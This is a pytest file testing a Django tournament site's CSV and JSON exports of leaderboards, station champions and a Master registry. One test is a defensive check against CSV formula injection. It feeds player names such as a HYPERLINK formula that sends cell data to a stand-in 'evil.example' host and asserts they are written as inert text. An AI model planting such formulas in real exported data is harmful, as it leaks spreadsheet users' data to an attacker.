"""Exports (SPEC §5, §6): leaderboards, station champions and the Master registry as CSV
(UTF-8 with a BOM, streamed) and JSON (streamed)."""

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client

from accounts.models import Player
from tests.web.tour import Tour
from titles.models import TitleTerm

pytestmark = pytest.mark.django_db


def download(url: str, status: int = 200) -> Any:
    response = Client().get(url)
    assert response.status_code == status, url
    return response


def body(response: Any) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(url: str) -> tuple[str, list[dict[str, str]]]:
    response = download(url)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = body(response)
    assert text.startswith("\ufeff")
    return response["Content-Disposition"], list(csv.DictReader(io.StringIO(text[1:])))


def test_live_leaderboard_csv(tour: Tour) -> None:
    disposition, rows = csv_rows("/exports/events/2021-W05-F/leaderboard.csv")
    assert disposition == 'attachment; filename="2021-W05-F-leaderboard.csv"'
    assert len(rows) == 16
    assert rows[0] == {
        "rank": "1",
        "province_rank": "1",
        "player": "p0000008",
        "name": "黄丽",
        "province": "北京",
        "total": "175",
        "games": "4",
        "best": "67",
        "eligible": "True",
        "advanced": "False",
        "by_national": "False",
        "by_province": "False",
    }
    assert [row["rank"] for row in rows] == [str(n) for n in range(1, 13)] + [""] * 4
    assert [row["province_rank"] for row in rows[:4]] == ["1", "1", "1", "1"]
    assert [row["player"] for row in rows[12:]] == ["p0000013", "p0000014", "p0000016", "p0000015"]
    assert rows[-1]["eligible"] == "False"


def test_province_leaderboard_csv_has_both_ranks(tour: Tour) -> None:
    disposition, rows = csv_rows("/exports/events/2021-W05-F/leaderboard.csv?province=江苏")
    assert disposition == (
        "attachment; filename*=utf-8''2021-W05-F-leaderboard-%E6%B1%9F%E8%8B%8F.csv"
    )
    assert [(row["province_rank"], row["rank"], row["name"]) for row in rows] == [
        ("1", "2", "小猴子"),
        ("2", "6", "杨磊"),
        ("3", "8", "王伟"),
        ("4", "11", "徐超"),
    ]


def test_finalised_leaderboard_json_has_frozen_ranks_and_bases(tour: Tour) -> None:
    response = download("/exports/events/2021-01-M/leaderboard.json")
    assert response["Content-Type"] == "application/json"
    data = json.loads(body(response))
    assert {key: value for key, value in data.items() if key != "rows"} == {
        "event": "2021-01-M",
        "province": None,
        "finalised": True,
        "leaderboard_version": tour.monthly.leaderboard_version,
    }
    assert [
        (row["rank"], row["province_rank"], row["player"], row["by_national"], row["by_province"])
        for row in data["rows"][:5]
    ] == [
        (1, 1, "p0000001", True, True),
        (2, 1, "p0000003", True, True),
        (3, 1, "p0000008", False, True),
        (4, 1, "p0000005", False, True),
        (5, 2, "p0000002", False, False),
    ]
    assert len(data["rows"]) == 12


def test_empty_leaderboard(tour: Tour) -> None:
    assert json.loads(body(download("/exports/events/2021-W06-Q/leaderboard.json")))["rows"] == []
    _, rows = csv_rows("/exports/events/2021-W06-Q/leaderboard.csv")
    assert rows == []


def test_station_champions(tour: Tour) -> None:
    disposition, rows = csv_rows("/exports/seasons/2021/champions.csv")
    assert disposition == 'attachment; filename="2021-champions.csv"'
    assert len(rows) == 69
    assert rows[0] == {
        "station": "1",
        "city": "北京",
        "date": "2021-01-11",
        "kind": "weekly_final",
        "event": "2021-W01-F",
        "status": "finalised",
        "champion": "p0000001",
        "champion_name": "小猴子",
        "champion_province": "江苏",
    }
    assert rows[5]["champion"] == ""
    data = json.loads(body(download("/exports/seasons/2021/champions.json")))
    assert data["season"] == 2021
    assert data["rows"][4]["event"] == "2021-01-M"
    assert data["rows"][4]["champion_name"] == "小猴子"
    assert data["rows"][5]["champion"] is None


def test_master_registry(tour: Tour) -> None:
    codes = {
        term.player.external_id: term.code
        for term in TitleTerm.objects.select_related("player").filter(state="current")
    }
    disposition, rows = csv_rows("/exports/masters.csv")
    assert disposition == 'attachment; filename="masters-2021-02-08.csv"'
    assert rows == [
        {
            "player": "p0000001",
            "name": "小猴子",
            "province": "江苏",
            "status": "master",
            "valid_until": "2022-02-02",
            "lifetime_since": "",
            "code": codes["p0000001"],
        },
        {
            "player": "p0000008",
            "name": "黄丽",
            "province": "北京",
            "status": "lifetime",
            "valid_until": "2021-06-01",
            "lifetime_since": "2020-09-01",
            "code": codes["p0000008"],
        },
    ]
    data = json.loads(body(download("/exports/masters.json?province=北京&status=lifetime")))
    assert data["as_of"] == "2021-02-08"
    assert (data["province"], data["status"]) == ("北京", "lifetime")
    assert [row["player"] for row in data["rows"]] == ["p0000008"]
    only = json.loads(body(download("/exports/masters.json?status=master")))
    assert [row["player"] for row in only["rows"]] == ["p0000001"]


@pytest.mark.parametrize(
    "url",
    [
        "/exports/events/2021-W05-F/leaderboard.xlsx",
        "/exports/events/2021-W05-F/leaderboard.csv?province=火星",
        "/exports/events/NOPE/leaderboard.csv",
        "/exports/seasons/1999/champions.csv",
        "/exports/masters.csv?status=lapsed",
        "/exports/snapshots/2021-02.csv",
    ],
)
def test_unknown_exports_are_404(tour: Tour, url: str) -> None:
    download(url, 404)


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-cmd", "@SUM(A1)", "\tx", "\rx"],
)
def test_a_name_a_spreadsheet_would_run_is_written_as_text(tour: Tour, name: str) -> None:
    Player.objects.filter(external_id="p0000008").update(name=name)

    _, rows = csv_rows("/exports/events/2021-W05-F/leaderboard.csv")
    as_json = json.loads(body(download("/exports/events/2021-W05-F/leaderboard.json")))

    assert rows[0]["name"] == "'" + name
    assert rows[0]["total"] == "175"
    assert as_json["rows"][0]["name"] == name  # JSON is data, not a sheet: as stored


def test_negative_scores_stay_numbers_in_the_csv(tour: Tour) -> None:
    _, rows = csv_rows("/exports/events/2021-W05-F/leaderboard.csv")

    assert any(row["total"].startswith("-") for row in rows)
